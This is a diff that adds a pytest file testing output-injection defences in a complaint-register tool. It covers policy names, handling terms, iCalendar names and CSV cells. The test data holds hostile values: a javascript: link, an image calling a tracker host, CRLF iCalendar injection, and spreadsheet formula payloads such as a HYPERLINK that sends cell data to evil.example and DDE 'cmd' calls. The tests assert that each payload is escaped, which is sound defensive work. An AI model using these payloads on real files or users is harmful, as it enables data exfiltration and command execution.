@@ -1,0 +1,216 @@
+"""User text cannot change an output's structure or run in the reader's tool (output injection).
+
+Each test puts a hostile value (a line break, an ANSI escape, Markdown or HTML, iCalendar separators,
+a spreadsheet formula) where the user types it: a policy's name, the organisation file's handling
+term, a complaint id. ``Jansen7qx`` marks the user's text, which must still be shown, as text.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import importlib
+import io
+import json
+import re
+import sys
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from klachtregels.cli import main
+
+if TYPE_CHECKING:
+    from types import ModuleType
+
+ROOT = Path(__file__).resolve().parents[2]
+EXAMPLES = ROOT / "examples"
+MARK = "Jansen7qx"
+
+#: Values that try to start a line of their own, a Markdown heading or HTML, or colour the terminal.
+NEW_LINE = [
+    f"{MARK}\n# Kop <img src=https://tracker.example/p.gif>",
+    f"{MARK}\r\n# Kop | kolom | breuk |",
+    f"{MARK}\u2028# Kop [klik](javascript:alert(1))",
+    f"{MARK}\x1b[31m\n# Kop\x1b[0m",
+]
+
+
+_MD_LINK = re.compile(r"(?<!\\)\]\(")  # a link or image: ']' straight before '(' (unescaped)
+
+
+def _policy(tmp_path: Path, name: str) -> Path:
+    path = tmp_path / "policy.toml"
+    path.write_text(f'[policy]\nname = {json.dumps(name)}\ntitle = "T"\n', encoding="utf-8")
+    return path
+
+
+def _run(args: list[str], capsys: pytest.CaptureFixture[str]) -> str:
+    code = main(args)
+    captured = capsys.readouterr()
+    assert code in (0, 1), captured.err
+    return captured.out
+
+
+def _no_line_of_its_own(out: str) -> None:
+    assert MARK in out  # shown, ...
+    assert not any(line.lstrip().startswith("# Kop") for line in out.splitlines())  # ... on its line
+    assert "\x1b" not in out
+    assert "\r" not in out
+
+
+# --------------------------------------------------------------------------------------------------
+# The policy's name: check (text, github summary) and assess
+# --------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", NEW_LINE)
+def test_check_text_shows_the_policy_name_on_its_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
+) -> None:
+    register = str(EXAMPLES / "register.csv")
+    out = _run(["check", register, "--as-of", "2025-12-01", "--policy", str(_policy(tmp_path, name))], capsys)
+    _no_line_of_its_own(out)
+
+
+@pytest.mark.parametrize("name", NEW_LINE)
+def test_github_summary_shows_the_policy_name_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
+) -> None:
+    register = str(EXAMPLES / "register.csv")
+    policy = str(_policy(tmp_path, name))
+    out = _run(["check", register, "--as-of", "2025-12-01", "--policy", policy, "--format", "github"], capsys)
+    _no_line_of_its_own(out)
+    assert "<img" not in out
+    assert not _MD_LINK.search(out)  # "[klik\\](javascript:...)" is text
+    assert "| kolom |" not in out  # the table cell separators are escaped
+
+
+@pytest.mark.parametrize("name", NEW_LINE)
+def test_assess_text_shows_the_policy_name_on_its_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
+) -> None:
+    complaint = str(EXAMPLES / "complaint.json")
+    policy = str(_policy(tmp_path, name))
+    out = _run(["assess", complaint, "--as-of", "2026-05-07", "--policy", policy], capsys)
+    _no_line_of_its_own(out)
+
+
+# --------------------------------------------------------------------------------------------------
+# The organisation file's handling term in the Markdown report
+# --------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("term", NEW_LINE)
+def test_markdown_report_shows_the_handling_term_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], term: str
+) -> None:
+    org = tmp_path / "org.toml"
+    text = (EXAMPLES / "organisation.toml").read_text(encoding="utf-8")
+    hostile = f"handling_term = {json.dumps(term)}"
+    org.write_text(text.replace('handling_term = "6 weeks"', hostile, 1), encoding="utf-8")
+    register = str(EXAMPLES / "register.csv")
+    out = _run(["report", register, "--year", "2025", "--org", str(org), "--format", "md"], capsys)
+    _no_line_of_its_own(out)
+    assert "<img" not in out
+    assert not _MD_LINK.search(out)  # "[klik\\](javascript:...)" is text
+    assert "| kolom |" not in out
+
+
+# --------------------------------------------------------------------------------------------------
+# iCalendar: the calendar's name holds the complaint id
+# --------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "complaint_id",
+    [
+        f"K1;{MARK},x",
+        f"K1\\n{MARK}",  # a backslash and an n: a line break to a reader if not escaped
+        f"K1\r\nEND:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:{MARK};X=1",
+    ],
+)
+def test_ics_calendar_name_is_escaped_text(complaint_id: str) -> None:
+    icalendar = pytest.importorskip("icalendar")
+    from klachtregels._io import one_line
+    from klachtregels.ics import obligations_ics
+    from klachtregels.model import Complaint, Judgement
+    from klachtregels.timeline import obligations
+
+    data = json.loads((EXAMPLES / "complaint.json").read_text(encoding="utf-8"))
+    data["complaint"]["id"] = complaint_id
+    timeline = obligations(
+        Complaint.from_dict(data["complaint"]),
+        as_of=dt.date(2026, 5, 7),
+        judgement=Judgement.from_dict(data["judgement"]),
+    )
+    out = obligations_ics(timeline)
+    cal = icalendar.Calendar.from_ical(out)
+    assert len(cal.walk("VEVENT")) == len([i for i in timeline.items if i.due is not None])  # none added
+    assert sorted(cal.keys()) == ["CALSCALE", "PRODID", "VERSION", "X-WR-CALNAME"]  # no property added
+    # X-WR-CALNAME is TEXT to the calendar programs that read it (RFC 5545 3.3.11): every ';', ','
+    # and backslash escaped, so that read back it is the id as shown.
+    raw = cal["X-WR-CALNAME"].to_ical().decode("utf-8")
+    assert re.fullmatch(r"(?:[^\\;,]|\\[\\;,nN])*", raw), raw
+    assert _TEXT_ESCAPE.sub(_unescape, raw) == f"Klacht {one_line(complaint_id)}: verplichtingen"
+
+
+_TEXT_ESCAPE = re.compile(r"\\([\\;,nN])")
+
+
+def _unescape(match: re.Match[str]) -> str:
+    char = match.group(1)
+    return "\n" if char in "nN" else char
+
+
+# --------------------------------------------------------------------------------------------------
+# The web page's findings CSV: spreadsheet formulas (OWASP "CSV injection")
+# --------------------------------------------------------------------------------------------------
+
+
+def _bridge() -> ModuleType:
+    web_src = str(ROOT / "web" / "src")
+    if web_src not in sys.path:
+        sys.path.insert(0, web_src)
+    return importlib.import_module("bridge")
+
+
+def _finding(complaint_id: str | None) -> dict[str, object]:
+    return {
+        "severity": "error",
+        "id": "KR-ROW-REJECTED",
+        "check": "row",
+        "row": 3,
+        "complaint_id": complaint_id,
+        "column": "received_on",
+        "rule_ids": ["R1", "R2"],
+        "ambiguities": [],
+        "message": {"nl": "Rij 3 afgewezen.", "en": "Row 3 rejected."},
+    }
+
+
+@pytest.mark.parametrize(
+    "complaint_id",
+    [
+        f'=HYPERLINK("https://evil.example/?"&A1,"{MARK}")',
+        f"+1+cmd|' /C calc'!A0{MARK}",
+        f"-2+3+{MARK}",
+        f"@SUM(1+1)*cmd|' /C calc'!A0{MARK}",
+        f"\t=1+1{MARK}",
+        f"\r=1+1{MARK}",
+    ],
+)
+def test_findings_csv_cell_never_starts_a_formula(complaint_id: str) -> None:
+    out = _bridge().findings_csv({"findings": [_finding(complaint_id)]}, "nl")
+    row = next(csv.DictReader(io.StringIO(out, newline=""), delimiter=";"))
+    assert row["complaint_id"] == "'" + complaint_id  # shown whole, after a quote that makes it text
+    assert row["message"] == "Rij 3 afgewezen."
+
+
+@pytest.mark.parametrize("complaint_id", ["VT-2024-001", "K 12", "'quoted", None])
+def test_findings_csv_keeps_ordinary_ids(complaint_id: str | None) -> None:
+    out = _bridge().findings_csv({"findings": [_finding(complaint_id)]}, "en")
+    row = next(csv.DictReader(io.StringIO(out, newline=""), delimiter=";"))
+    assert row["complaint_id"] == (complaint_id or "")
+    assert row["rule_ids"] == "R1 R2"
